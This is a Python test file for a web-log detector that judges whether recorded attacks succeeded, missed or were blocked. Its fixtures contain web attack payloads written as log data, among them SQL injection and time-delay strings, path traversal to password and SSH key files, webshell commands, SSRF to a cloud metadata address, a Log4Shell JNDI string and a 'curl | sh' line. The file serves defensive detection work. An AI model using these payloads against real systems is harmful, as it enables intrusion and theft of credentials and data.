"""How attacks went, from their answers; sites, sizes and payloads written out."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from event_tables import event, events
from logvision.detect.asked import REMEMBERED, Asked, Reading
from logvision.detect.outcome import READ_CLOSELY, SPOTS_KEPT, Baselines, judge
from logvision.schema import EVENT, Attack, Outcome

ATTACKER = "203.0.113.9"
SECOND = 1_000_000


def attack(
    target: str, status: int, size: int | None = 1000, kind: Attack = Attack.SQLI, **given: Any
) -> dict[str, Any]:
    row = {"target": target, "status": status, "bytes": size, "attack": kind.value, "score": 0.9}
    return event(**({"client_ip": ATTACKER} | row | given))


def visits(target: str, sizes: Sequence[int], **given: Any) -> list[dict[str, Any]]:
    """Ordinary requests, each from a network of its own."""
    return [
        event(target=target, bytes=size, client_ip=f"198.{18 + n // 200}.{n % 200}.7", **given)
        for n, size in enumerate(sizes)
    ]


def outcomes(rows: Sequence[dict[str, Any]], baselines: Baselines | None = None) -> list[str | None]:
    judged = judge(events(rows), Baselines() if baselines is None else baselines)
    return list(judged["outcome"].cast(pa.string()).to_pylist())


def of_attacks(rows: Sequence[dict[str, Any]], baselines: Baselines | None = None) -> list[str | None]:
    return [o for o, row in zip(outcomes(rows, baselines), rows, strict=True) if row["attack"]]


MISSING = visits("/nothing-here", [500] * 4, status=404)


def test_only_attacks_have_an_outcome_and_nothing_else_changes() -> None:
    table = events([event(), attack("/a?x=1'", 403), event(target="/b")])
    judged = judge(table, Baselines())
    assert judged.schema == EVENT
    assert judged.drop_columns("outcome").equals(table.drop_columns("outcome"))
    assert judged["outcome"].to_pylist() == [None, "blocked", None]


@pytest.mark.parametrize(
    ("status", "outcome"),
    [
        *((s, "blocked") for s in (400, 401, 403, 405, 406, 429, 444, 501)),
        *((s, "missed") for s in (301, 302, 404, 410, 422)),
        *((s, "unknown") for s in (None, 101, 304, 408, 499, 500, 502, 503)),
    ],
)
def test_a_status_tells_of_refusals_misses_and_errors(status: int | None, outcome: str) -> None:
    assert outcomes([attack("/a?x=1'", status)]) == [outcome]


@pytest.mark.parametrize("kind", list(Attack))
@pytest.mark.parametrize("status", [200, 206, 302, 404, 500])
def test_a_status_alone_never_says_that_an_attack_worked(kind: Attack, status: int) -> None:
    rows = [attack("/.env?id=sleep(5)' union select 1 from t", status, None, kind, duration_us=None)]
    assert outcomes(rows)[0] != "worked"


def test_a_secret_file_that_is_there_was_read() -> None:
    probes = [
        attack("/.git/config", 404, 512, Attack.SENSITIVE),
        attack("/.env", 200, 731, Attack.SENSITIVE),
        attack("/backup.zip", 200, 88_000, Attack.SENSITIVE, method="HEAD"),
        attack("/dump.sql", 200, 0, Attack.SENSITIVE),
    ]
    assert outcomes(probes) == ["missed", "worked", "unknown", "missed"]


def test_a_file_is_unknown_while_the_site_has_not_said_how_it_misses() -> None:
    assert outcomes([attack("/.env", 200, 731, Attack.SENSITIVE)]) == ["unknown"]


def test_a_site_that_answers_200_to_anything_gave_nothing() -> None:
    names = ("/.env", "/backup.zip", "/wp-config.php~", "/id_rsa", "/admin.sql")
    assert outcomes([attack(n, 200, 2481, Attack.SENSITIVE) for n in names]) == ["missed"] * 5
    behind = attack("/.aws/credentials", 200, 310, Attack.SENSITIVE)
    assert outcomes([*(attack(n, 200, 2481, Attack.SENSITIVE) for n in names), behind])[-1] == "worked"


def test_copies_of_one_file_are_no_page_for_anything() -> None:
    copies = ("/.env", "/app/.env", "/.env.bak", "/api/.env.production")
    rows = [*MISSING, *(attack(c, 200, 731, Attack.SENSITIVE) for c in copies)]
    assert of_attacks(rows) == ["worked"] * 4


def test_the_first_page_of_an_application_is_no_file() -> None:
    rows = [*visits("/", [2481] * 8), *MISSING, attack("/.env", 200, 2481, Attack.SENSITIVE)]
    assert of_attacks(rows) == ["missed"]


def test_the_shell_of_an_application_is_known_by_its_many_routes() -> None:
    shell = [row for n in range(8) for row in visits(f"/view{n}/", [2481] * 3)]
    assert of_attacks([*shell, attack("/.env", 200, 2481, Attack.SENSITIVE)]) == ["missed"]


def test_a_file_that_everybody_is_given_is_none_of_a_thief() -> None:
    rows = [
        *visits("/package.json", [900] * 8),
        *MISSING,
        attack("/package.json", 200, 900, Attack.SENSITIVE),
    ]
    assert of_attacks(rows) == ["missed"]


def test_a_shell_that_answers_after_an_upload_worked() -> None:
    rows = [
        *MISSING,
        attack("/plugins/upload.php", 200, 612, Attack.WEBSHELL, method="POST"),
        attack("/uploads/x1f.php?cmd=id", 200, 54, Attack.WEBSHELL),
        attack("/uploads/c99.php", 404, 500, Attack.WEBSHELL),
    ]
    assert of_attacks(rows) == ["worked", "worked", "missed"]


def test_a_path_that_climbs_worked_where_the_download_is_another_size() -> None:
    rows = [
        *visits("/download?file=a.pdf", [240_000 + 9000 * n for n in range(8)]),
        attack("/download?file=../../etc/passwd", 200, 1843, Attack.TRAVERSAL),
        attack("/download?file=..%2f..%2fetc/passwd", 200, 1843, Attack.TRAVERSAL),
        attack("/download?file=../../x", 404, 153, Attack.TRAVERSAL),
    ]
    assert of_attacks(rows) == ["worked", "worked", "missed"]


def test_a_file_that_is_the_same_however_its_path_is_written_was_read() -> None:
    spellings = ("/etc/passwd", "../../etc/passwd%00", "....//....//....//etc/passwd?", "/etc/./passwd/.")
    others = [f"../../{name}" for name in ("windows/win.ini", "etc/hosts", "boot.ini")]
    rows = [
        *visits("/view?file=about.html", [352] * 8),
        *(attack(f"/view?file={path}", 200, 192, Attack.TRAVERSAL) for path in spellings),
        *(attack(f"/view?file={path}", 200, 390 + len(path), Attack.TRAVERSAL) for path in others),
    ]
    assert of_attacks(rows)[:4] == ["worked"] * 4
    assert "worked" not in of_attacks(rows)[4:]


def test_empty_answers_to_whatever_names_one_file_hold_no_file() -> None:
    spellings = ("/etc/passwd", "../../etc/passwd%00", "....//....//....//etc/passwd?", "/etc/./passwd/.")
    others = [f"../../{name}" for name in ("windows/win.ini", "etc/hosts", "boot.ini")]
    rows = [
        *visits("/view?file=about.html", [352] * 8),
        *(attack(f"/view?file={path}", 200, 0, Attack.TRAVERSAL) for path in spellings),
        *(attack(f"/view?file={path}", 200, 390 + len(path), Attack.TRAVERSAL) for path in others),
    ]
    assert "worked" not in of_attacks(rows)


def test_a_path_that_climbs_missed_where_every_file_is_the_same_page() -> None:
    names = ("etc/passwd", "windows/win.ini", "root/.ssh/id_rsa", "proc/self/environ")
    rows = [
        *visits("/download?file=a.pdf", [240_000 + 9000 * n for n in range(8)]),
        *(attack(f"/download?file=../../{n}", 200, 3300, Attack.TRAVERSAL) for n in names),
    ]
    assert of_attacks(rows) == ["missed"] * 4


def test_conditions_that_the_page_follows_worked() -> None:
    pairs = [
        attack(f"/item?id=1'/**/AND/**/{n}={n if n % 2 else n + 1}--", 200, 30_000 if n % 2 else 9000)
        for n in range(11, 17)
    ]
    assert outcomes(pairs) == ["worked"] * 6


def test_one_pair_of_conditions_needs_a_sound_request_of_the_same_client() -> None:
    pair = [attack("/item?id=1' and '1'='1", 200, 30_000), attack("/item?id=1' and '1'='2", 200, 9000)]
    assert outcomes(pair) == ["unknown", "unknown"]
    sound = event(target="/item?id=1", bytes=30_020, client_ip=ATTACKER)
    assert outcomes([sound, *pair])[1:] == ["worked", "worked"]
    somebody = event(target="/item?id=1", bytes=30_020)
    assert outcomes([somebody, *pair])[1:] == ["unknown", "unknown"]


def test_conditions_that_the_page_ignores_missed() -> None:
    rows = [attack(f"/item?id=1' and {n}={n + n % 2}", 200, 30_000 + n) for n in range(8)]
    assert outcomes(rows) == ["missed"] * 8


def test_a_page_that_stays_the_same_but_for_the_payload_it_repeats_missed() -> None:
    payloads = ["'", "' order by 9", "' union select 1,2,3", "' union select user()", "'||'a'||'b'||'c'||'d"]
    rows = [attack(f"/s?q={p}", 200, 5000 + 2 * len(p)) for p in payloads]
    assert outcomes(rows) == ["missed"] * 5


@pytest.mark.parametrize(
    ("payload", "took", "outcome"),
    [
        ("1' and sleep(5)--", 5.2, "worked"),
        ("1%27%20AND%20SLEEP%285%29", 5.2, "worked"),
        ("1%2527%2520AND%2520SLEEP%25285%2529", 5.2, "worked"),
        ("1;waitfor delay '0:0:5'--", 5.2, "worked"),
        ("1;select pg_sleep(5)", 5.2, "worked"),
        ("1;sleep${IFS}5", 5.2, "worked"),
        ("1' and sleep(5)--", 0.2, "missed"),
        ("1' and sleep(0)--", 9.0, "unknown"),
        ("1' and sleep(5)--", None, "unknown"),
    ],
)
def test_an_answer_as_late_as_it_was_asked_worked(payload: str, took: float | None, outcome: str) -> None:
    duration = None if took is None else round(took * SECOND)
    assert outcomes([attack(f"/item?id={payload}", 200, duration_us=duration)]) == [outcome]


def test_a_delay_counts_whatever_the_status_but_not_where_the_route_is_slow() -> None:
    late = attack("/item?id=sleep(5)", 500, duration_us=5_300_000)
    assert outcomes([late]) == ["worked"]
    slow = visits("/item?id=3", [1000] * 8, duration_us=5_000_000)
    assert of_attacks([*slow, late]) == ["unknown"]
    refused = attack("/item?id=sleep(5)", 403, duration_us=5_300_000)
    assert outcomes([refused]) == ["blocked"]


def test_more_data_than_anybody_is_given_worked() -> None:
    rows = [
        *visits("/item?id=3", [8000, 8100, 8300, 9000, 8050, 8800, 9100, 8400]),
        attack("/item?id=1 union select a,b from users", 200, 64_000),
        attack("/item?id=2 or 1", 200, 8700),
    ]
    assert of_attacks(rows) == ["worked", "missed"]


def test_commands_whose_outputs_all_differ_worked() -> None:
    rows = [
        *visits("/ping?host=a", [20_000] * 8),
        *(
            attack(f"/ping?host=a;{c}", 200, s, Attack.RCE)
            for c, s in zip(("id", "ls", "ps"), (54, 640, 4100), strict=True)
        ),
    ]
    assert of_attacks(rows) == ["worked"] * 3


def test_searches_for_code_are_answered_in_many_ways_and_none_of_them_worked() -> None:
    words = ["curl+-s+a.example+|+sh", "phpinfo()", "cat+/etc/hosts", "exec()", "import+os", "<?php+echo"]
    rows = [attack(f"/search?q={word}", 200, 4000 + 900 * n, kind=Attack.RCE) for n, word in enumerate(words)]
    files = [attack(f"/search?q=/etc/{word}.conf", 200, 9000, kind=Attack.TRAVERSAL) for word in "ab"]
    assert set(of_attacks([*MISSING, *rows, *files])) == {"unknown"}


def test_an_expression_that_changes_the_page_worked() -> None:
    sizes = [7000, 7010, 6995, 7004, 21_000]
    rows = [attack(f"/hello?name={{{{7*{n}}}}}", 200, s, Attack.SSTI) for n, s in enumerate(sizes)]
    assert outcomes(rows) == ["missed"] * 4 + ["worked"]


def test_an_inner_address_taken_where_others_are_refused_worked() -> None:
    rows = [
        *visits("/preview?url=https://a.example/", [1350] * 8),
        attack("/preview?url=dict://127.0.0.1:11211/", 422, 92, Attack.SSRF),
        attack("/preview?url=http://169.254.169.254/latest/", 200, 610, Attack.SSRF),
    ]
    assert of_attacks(rows) == ["missed", "worked"]


def test_script_that_the_page_repeats_is_unknown_and_that_it_does_not_missed() -> None:
    payloads = [f"<script>{'a' * n}</script>" for n in (1, 20, 40, 60, 80)]
    repeated = [attack(f"/s?q={p}", 200, 5000 + len(p), Attack.XSS) for p in payloads]
    ignored = [attack(f"/s?q={p}", 200, 5000, Attack.XSS) for p in payloads]
    assert outcomes(repeated) == ["unknown"] * 5
    assert outcomes(ignored) == ["missed"] * 5


def test_a_redirect_from_where_nobody_is_redirected_worked() -> None:
    rows = [
        *visits("/login?next=/a", [1000] * 8),
        attack("/login?next=//evil.example", 302, 0, Attack.REDIRECT),
    ]
    assert of_attacks(rows) == ["worked"]
    often = visits("/login?next=/a", [0] * 8, status=302)
    assert of_attacks([*rows[:-1], *often, rows[-1]]) == ["unknown"]


def test_a_large_page_for_a_scanner_by_name_alone_proves_nothing() -> None:
    rows = [*visits("/", [8000] * 8), attack("/", 200, 64_000, Attack.SCANNER, user_agent="Nikto")]
    assert of_attacks(rows) == ["unknown"]


def passwords(statuses: Sequence[int], target: str = "/wp-login.php", **given: Any) -> list[dict[str, Any]]:
    return [attack(target, s, kind=Attack.SCANNER, method="POST", **given) for s in statuses]


@pytest.mark.parametrize(
    ("wrong", "right"),
    [(200, 302), (401, 200), (401, 204), (302, 200), (200, 303)],
)
def test_of_passwords_sent_by_a_tool_the_one_answered_otherwise_worked(wrong: int, right: int) -> None:
    rows = passwords([wrong] * 20 + [right] + [wrong] * 9)
    assert of_attacks(rows) == ["missed"] * 20 + ["worked"] + ["missed"] * 9
    # Cut into batches, what came first is told by what was known then.
    baselines = Baselines()
    assert of_attacks(rows[:20], baselines) == ["missed"] * 20
    assert of_attacks(rows[20:], baselines) == ["worked"] + ["missed"] * 9


def test_few_passwords_and_answers_of_all_kinds_tell_nothing() -> None:
    assert of_attacks(passwords([200] * 3)) == ["unknown"] * 3
    assert of_attacks(passwords([200, 302] * 10)) == ["unknown"] * 20
    assert of_attacks(passwords([403, 429, 401])) == ["blocked", "blocked", "missed"]
    assert of_attacks(passwords([302] * 20, "/contact")) == ["missed"] * 20


def test_what_no_answer_shows_is_unknown() -> None:
    header = attack("/", 200, 1000, Attack.LOG4SHELL, user_agent="${jndi:ldap://a.example/x}")
    assert of_attacks([*visits("/", [1000] * 8), header]) == ["unknown"]


def test_one_network_cannot_teach_what_is_ordinary() -> None:
    target, stolen = "/item?id=9", attack("/item?id=1 union select a,b from users", 200, 64_000)
    sound = visits("/item?id=3", [8000] * 8)
    for network in ("192.0.2.", "2001:db8:7:7::"):
        own = [event(target=target, bytes=64_000, client_ip=f"{network}{n}") for n in range(1, 200)]
        assert of_attacks([*own, *sound, stolen]) == ["worked"]
    many = visits(target, [64_000] * 8)
    assert of_attacks([*many, stolen]) == ["missed"]


def test_who_attacks_teaches_nothing() -> None:
    baselines = Baselines()
    fleet = [f"192.0.{n}.1" for n in range(8)]
    judge(events([attack("/x?q='", 404, client_ip=ip) for ip in fleet]), baselines)
    judge(events([event(target="/item?id=9", bytes=64_000, client_ip=ip) for ip in fleet]), baselines)
    assert baselines.learned.route("shop.example", "/item", "id") is None


def test_a_restart_changes_nothing() -> None:
    first = [
        *visits("/item?id=3", [8000, 8100, 8300, 9000, 8050, 8800, 9100, 8400]),
        *MISSING,
        attack("/item?id=1' and 1=1", 200, 8000),
        event(target="/item?id=1", bytes=8010, client_ip=ATTACKER),
    ]
    then = [
        attack("/item?id=1' and 1=2", 200, 300),
        attack("/.env", 200, 731, Attack.SENSITIVE),
        attack("/item?id=1 union select a,b from users", 200, 64_000),
    ]
    straight, saved = Baselines(), Baselines()
    assert outcomes(first, straight) == outcomes(first, saved)
    again = Baselines()
    again.restore(saved.snapshot())
    assert again.snapshot() == saved.snapshot()
    assert outcomes(then, again) == outcomes(then, straight) == ["worked", "worked", "worked"]


def test_a_snapshot_of_another_version_is_learned_anew() -> None:
    fresh = Baselines()
    fresh.restore(b'{"version":0}')
    assert fresh.snapshot() == Baselines().snapshot()


def test_a_storm_of_attacks_is_judged_whole_and_remembered_in_bounds() -> None:
    storm = [
        attack(f"/r{n}?x=1'", 200 if n % 2 else 404, kind=Attack.XSS) for n in range(2 * READ_CLOSELY + 500)
    ]
    baselines = Baselines()
    found = outcomes(storm, baselines)
    assert set(found[1::2]) == {"unknown"}
    assert set(found[::2]) == {"missed"}
    kept = [baselines.known_spot((ATTACKER, "shop.example", f"/r{n}", "x")) for n in range(len(storm))]
    assert sum(spot is not None for spot in kept) == SPOTS_KEPT


def test_what_a_target_asks_for_is_read_through_its_encoding() -> None:
    target = "/app/.env.bak?x=1%2527%2520or%2520%25272%2527%253D%25272"
    assert Reading().of([target, None], ["/app/.env.bak", None]) == [
        Asked(42, "1%27%20or%20%272%27%3d%272", None, "or+", data=False, hidden=True, payload=563_913_214),
        Asked(0, "", None, "", data=False, hidden=False, payload=0),
    ]


def test_what_targets_ask_for_is_the_same_however_often_and_whatever_came_between() -> None:
    reading = Reading()
    targets = ["/a?id=sleep(5)", "/.env", "/a?id=sleep(5)", f"/long?x={'y' * 300}"]
    paths = [target.partition("?")[0] for target in targets]
    first = reading.of(targets, paths)
    for start in range(0, 3 * REMEMBERED, 1000):
        others = [f"/{n}" for n in range(start, start + 1000)]
        reading.of(others, others)

    assert [each.delay_s for each in first] == [5, None, 5, None]
    assert reading.of(targets, paths) == first == reading.of(targets, paths)
    assert len(reading) <= REMEMBERED


rows = st.fixed_dictionaries(
    {
        "target": st.text(max_size=60).map("/".__add__)
        | st.sampled_from(["/?id=1' and 1=1", "/a?b=sleep(3)"]),
        "status": st.none() | st.integers(0, 599),
        "bytes": st.none() | st.integers(0, 1 << 40),
        "duration_us": st.none() | st.integers(0, 1 << 40),
        "attack": st.none() | st.sampled_from([a.value for a in Attack]),
        "client_ip": st.sampled_from([None, "192.0.2.1", "2001:db8::1", "198.51.100.4"]),
        "site": st.sampled_from([None, "a.example"]),
        "method": st.sampled_from([None, "GET", "HEAD", "POST"]),
    }
)


@settings(max_examples=60, deadline=None)
@given(given_rows=st.lists(rows, max_size=30))
def test_every_attack_gets_one_outcome_whatever_was_logged(given_rows: list[dict[str, Any]]) -> None:
    table = [event(**row) for row in given_rows]
    baselines = Baselines()
    found = outcomes(table, baselines)
    assert [o is None for o in found] == [row["attack"] is None for row in table]
    assert set(found) <= {None, *(o.value for o in Outcome)}
    again = Baselines()
    again.restore(baselines.snapshot())
    assert outcomes(table, again) == outcomes(table, baselines)
